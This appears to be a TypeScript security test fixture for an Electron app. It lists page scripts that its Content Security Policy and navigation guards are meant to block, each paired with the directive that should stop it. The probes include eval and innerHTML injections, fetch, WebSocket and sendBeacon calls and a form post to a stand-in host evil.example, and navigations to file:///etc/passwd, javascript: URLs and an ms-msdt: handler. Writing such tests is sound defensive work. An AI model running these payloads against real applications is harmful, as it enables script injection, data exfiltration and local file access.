import { defaultPort } from '../../electron/contract/default-port.ts';

/** What a page's policy reported (`securitypolicyviolation`). */
export interface Violation {
  readonly directive: string;
  readonly blocked: string;
}

const evil = 'https://evil.example';
/** Out of the protocol's own call, which Chromium lets through. */
const later = (script: string) => `setTimeout(() => { try { ${script} } catch {} })`;
const element = (name: string, attributes: Readonly<Record<string, string>>) =>
  later(`const one = document.createElement('${name}');
    for (const [key, value] of ${JSON.stringify(Object.entries(attributes))}) one.setAttribute(key, value);
    document.body.append(one)`);

/** Ways in which a script lets something in or out, and the directive that has to stop each. Run in the page. */
export const loads: readonly { readonly directive: string; readonly script: string }[] = [
  { directive: 'require-trusted-types-for', script: later('eval("owned = 1")') },
  { directive: 'require-trusted-types-for', script: later('new Function("owned = 1")()') },
  { directive: 'require-trusted-types-for', script: element('b', { onclick: 'owned = 1' }) },
  { directive: 'script-src-elem', script: later(`import('${evil}/x.js').catch(() => undefined)`) },
  {
    directive: 'script-src-elem',
    script: later("import('data:text/javascript,owned=1').catch(() => undefined)"),
  },
  {
    directive: 'require-trusted-types-for',
    script: later('document.body.innerHTML = "<img src=x onerror=owned=1>"'),
  },
  {
    directive: 'require-trusted-types-for',
    script: later(`Object.assign(document.createElement('script'), { src: '${evil}/x.js' })`),
  },
  {
    directive: 'trusted-types',
    script: later("trustedTypes.createPolicy('mine', { createHTML: (text) => text })"),
  },
  { directive: 'style-src-elem', script: element('link', { rel: 'stylesheet', href: `${evil}/x.css` }) },
  {
    directive: 'style-src-elem',
    script: later(
      "document.head.append(Object.assign(document.createElement('style'), { textContent: 'b{}' }))",
    ),
  },
  { directive: 'style-src-attr', script: element('b', { style: `background: url(${evil}/x)` }) },
  { directive: 'img-src', script: element('img', { src: `${evil}/x.png` }) },
  { directive: 'connect-src', script: later(`fetch('${evil}/').catch(() => undefined)`) },
  { directive: 'connect-src', script: later("fetch('/index.html').catch(() => undefined)") },
  {
    directive: 'connect-src',
    script: later(`const x = new XMLHttpRequest(); x.open('GET', '${evil}/'); x.send()`),
  },
  { directive: 'connect-src', script: later("new WebSocket('wss://evil.example/')") },
  { directive: 'connect-src', script: later(`new EventSource('${evil}/')`) },
  { directive: 'connect-src', script: later(`navigator.sendBeacon('${evil}/', 'x')`) },
  {
    directive: 'connect-src',
    script: later(`fetch('http://127.0.0.1:${defaultPort}/healthz').catch(() => undefined)`),
  },
  { directive: 'frame-src', script: element('iframe', { src: `${evil}/` }) },
  { directive: 'frame-src', script: element('iframe', { src: 'data:text/html,x' }) },
  { directive: 'require-trusted-types-for', script: element('object', { data: `${evil}/` }) },
  { directive: 'media-src', script: element('video', { src: `${evil}/x.webm` }) },
  {
    directive: 'font-src',
    script: later(`new FontFace('x', 'url(${evil}/x.woff2)').load().catch(() => undefined)`),
  },
  { directive: 'require-trusted-types-for', script: later('new Worker(document.scripts[0].src)') },
  { directive: 'base-uri', script: element('base', { href: `${evil}/` }) },
  {
    directive: 'form-action',
    script: `(() => { const form = document.createElement('form');
      Object.assign(form, { action: '${evil}/', method: 'post' });
      document.body.append(form); form.submit(); form.remove(); })()`,
  },
];

/** Ways for a page to be elsewhere. `asked`: Chromium does ask for the address, and a guard of the app has to say no. */
export const escapes: readonly { readonly name: string; readonly script: string; readonly asked: boolean }[] =
  [
    { name: 'location', script: `location.href = '${evil}/'`, asked: true },
    {
      name: 'another host of the scheme',
      script: `location.href = location.origin.replace('token-tray', 'other-host') + '/'`,
      asked: true,
    },
    { name: 'another page of ours', script: `location.href = '/?again'`, asked: true },
    {
      name: 'a link',
      script: `Object.assign(document.createElement('a'), { href: '${evil}/link' }).click()`,
      asked: true,
    },
    {
      name: 'meta refresh',
      script: element('meta', { 'http-equiv': 'refresh', content: `0; url=${evil}/meta` }),
      asked: true,
    },
    {
      name: 'the program’s own address',
      script: `location.href = 'http://127.0.0.1:${defaultPort}/healthz'`,
      asked: true,
    },
    { name: 'a file', script: "location.href = 'file:///etc/passwd'", asked: false },
    { name: 'data', script: "location.href = 'data:text/html,owned'", asked: false },
    {
      name: 'a blob',
      script: "location.href = URL.createObjectURL(new Blob(['owned'], { type: 'text/html' }))",
      asked: false,
    },
    { name: 'javascript', script: "location.href = 'javascript:owned=1'", asked: false },
    { name: 'another program', script: "location.href = 'ms-msdt:/id PCWDiagnostic'", asked: false },
  ];
